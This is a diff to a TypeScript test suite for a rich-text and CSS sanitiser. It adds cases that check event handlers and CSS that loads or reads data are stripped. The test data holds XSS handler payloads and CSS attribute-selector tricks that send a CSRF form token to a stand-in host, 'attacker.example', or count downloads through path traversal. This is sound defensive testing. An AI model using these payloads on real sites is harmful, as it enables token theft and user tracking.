@@ -1,7 +1,7 @@
 import { test, describe } from 'node:test';
 import assert from 'node:assert/strict';
 import postcss from 'postcss';
-import { sanitizeRichText, sanitizeCss } from './sanitize.ts';
+import { RICH_TEXT_TAGS, sanitizeRichText, sanitizeCss } from './sanitize.ts';
 
 /** Decodes the entities sanitize-html may emit (numeric and the common named ones). */
 function decodeEntities(s: string): string {
@@ -158,6 +158,29 @@ describe('sanitizeRichText: XSS payloads', () => {
   });
 });
 
+describe('sanitizeRichText: event handlers on every allowed element', () => {
+  // Generated from the allow-list itself: an element added to it is covered here without a new case.
+  const HANDLERS = ['onclick', 'onerror', 'onmouseover', 'onfocus', 'onload', 'onanimationstart', 'onpointerenter', 'ONCLICK', 'OnMouseOver', 'onFocus'];
+  const VOID = new Set(['br', 'hr', 'img', 'wbr', 'col', 'area', 'source', 'track']);
+  /** Attributes an element needs to be kept at all (an img without a usable src is dropped). */
+  const NEEDS: Record<string, string> = { img: ' src="/sm/theme/logo" alt="logo"', a: ' href="https://example.org/"' };
+  const writings = (handler: string) => [`${handler}="alert(1)"`, `${handler}='alert(2)'`, `${handler}=alert(3)`, `\n${handler} = "alert(4)"`];
+
+  for (const tag of RICH_TEXT_TAGS) {
+    test(`<${tag}> keeps no event handler`, () => {
+      for (const handler of HANDLERS) {
+        for (const attribute of writings(handler)) {
+          const input = VOID.has(tag) ? `<${tag}${NEEDS[tag] ?? ''} ${attribute}>` : `<${tag}${NEEDS[tag] ?? ''} ${attribute}>text</${tag}>`;
+          const out = assertSafe(input);
+          assert.match(out, new RegExp(`<${tag}[\\s>/]`), `<${tag}> itself is kept, so the check means something: ${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
+          assert.doesNotMatch(out, /\son[a-z]+\s*=/i, `${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
+          assert.doesNotMatch(out, /alert/, `${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
+        }
+      }
+    });
+  }
+});
+
 describe('sanitizeRichText: ordinary content', () => {
   const kept = [
     '<p>See <a href="https://doi.org/10.1234/x" title="DOI">the article</a> &amp; <a href="mailto:editor@example.org">write to us</a>.</p>',
@@ -208,15 +231,17 @@ describe('sanitizeCss', () => {
     assert.equal(normalizeCss(result.css), normalizeCss(css));
   });
 
-  test('safe urls, fonts and at-rules are kept', () => {
+  test('the journal’s own images, data: images, local fonts, harmless selectors and at-rules are kept', () => {
     const css = [
-      '.a { background: url("/files/bg.png") no-repeat, url(https://cdn.example/x.webp); }',
-      '.b { background-image: url(data:image/png;base64,iVBORw0KGgo=); }',
-      '@font-face { font-family: "Body"; src: url(/fonts/body.woff2) format("woff2"), url("https://fonts.example/b.woff") format("woff"); }',
+      '.a { background: url("/sm/theme/homepage?v=3") no-repeat, url(/sm/theme/logo); }',
+      '.b { background-image: url(data:image/png;base64,iVBORw0KGgo=); list-style-image: url( \'/sm/theme/favicon?v=12\' ); }',
+      '.c { background: image-set("/sm/theme/logo?v=1" 1x, url(data:image/webp;base64,UklGRg==) 2x); }',
+      '@font-face { font-family: "Body"; src: local("Source Serif 4"), local(Georgia); }',
       '@supports (display: grid) { .c { display: grid; grid-template-columns: repeat(2, 1fr); } }',
       '@keyframes fade { from { opacity: 0 } to { opacity: 1 } }',
       'html { scroll-behavior: smooth; }',
-      'a[href^="https:"]::after { content: "\\2197"; }',
+      'a[hreflang]::after, abbr[title]::after { content: "\\2197" attr(title); }',
+      ':lang(en) q, [lang|="en"] q, [dir=rtl] p, input[type="search" i], li:nth-child(2n+1):not(.x) { quotes: "“" "”"; }',
     ].join('\n');
     const result = sanitizeCss(css);
     assert.deepEqual(result.removed, []);
@@ -255,6 +280,44 @@ describe('sanitizeCss', () => {
         assert.ok(!lower.includes(word), `${JSON.stringify(result.css)} contains ${word}`);
       }
       assert.match(result.css, /color: red/, 'the harmless rest is kept');
+      assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
+    });
+  }
+
+  // Issue 15, finding 12: a manager's CSS could read a page's form token and report it, or count downloads.
+  const LOADS_OR_READS = ['value', ':has', 'https:', 'download', 'attacker', 'files/', 'href^', 'image-set', 'src('];
+  // A custom property may hold any string; only its use in something that loads is refused.
+  const THROUGH_VAR = ['image-set', 'src(', 'var(--u)'];
+  const readingOrCounting: Array<[string, string, string[]?]> = [
+    ['the form token by :has() and [value^=]', 'form:has(input[name="_csrf"][value^="b"]) { background: url(https://attacker.example/b) }'],
+    ['the form token by [value^=] alone', 'input[name="_csrf"][value^="b"] { background: url(/sm/theme/logo?v=98) }'],
+    ['[value$=] inside :is()', ':is(input[value$="z"]) ~ button { background: url(/sm/theme/logo?v=26) }'],
+    ['[value*=] with a case flag, written VALUE', 'input[VALUE*=q i] { outline: 1px solid }'],
+    ['an escaped attribute name', 'input[v\\61lue^=a] { outline: 1px solid }'],
+    ['a comment in the attribute test', 'input[value/**/^=a] { outline: 1px solid }'],
+    ['a nested rule', 'form { color: red; & input[value^="a"] { outline: 1px solid } }'],
+    ['[href^=], which can hold a token', 'a[href^="/user/email/confirm?token=a"] { outline: 1px solid }'],
+    [':has() without an attribute test', 'body:has(.account-menu__admin) { outline: 1px solid }'],
+    ['@scope with :has()', '@scope (form:has(input[value^=a])) { p { outline: 1px solid } }'],
+    ['an external image', '.a { background: url(https://cdn.example/x.webp) }'],
+    ['an external font', '@font-face { font-family: X; src: url("https://fonts.example/b.woff") format("woff"); }'],
+    ['a galley download', '.a { background: url(/sm/article/download/1786/1) }'],
+    ['a relative address', '.a { background: url(article/download/1786/1) }'],
+    ['a path out of the theme', '.a { background: url(/sm/theme/logo/../../article/download/1786/1) }'],
+    ['an escaped parenthesis', '.a { background: url(/sm/theme/logo\\)/../../article/download/1786/1) }'],
+    ['a comment inside url()', '.a { background: url(/sm/theme/lo/*/../../../article/download/1786/1/*/go) }'],
+    ['a site path', '.a { background: url("/files/bg.png") }'],
+    ['image-set through var()', ':root { --u: "https://attacker.example/a"; } .a { background: image-set(var(--u) 1x) }', THROUGH_VAR],
+    ['src() through var()', ':root { --u: "/sm/article/download/1786/1"; } .a { background: src(var(--u)) }', THROUGH_VAR],
+  ];
+  for (const [name, css, words = LOADS_OR_READS] of readingOrCounting) {
+    test(`removes what could read a page or count a download: ${name}`, () => {
+      const result = sanitizeCss(`${css}\n.kept { color: red }`);
+      assert.ok(result.removed.length > 0, `nothing removed from ${css}`);
+      for (const word of words) {
+        assert.ok(!result.css.toLowerCase().includes(word), `${JSON.stringify(result.css)} contains ${word}`);
+      }
+      assert.match(result.css, /\.kept \{ color: red \}/, 'the harmless rest is kept');
       assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
     });
   }
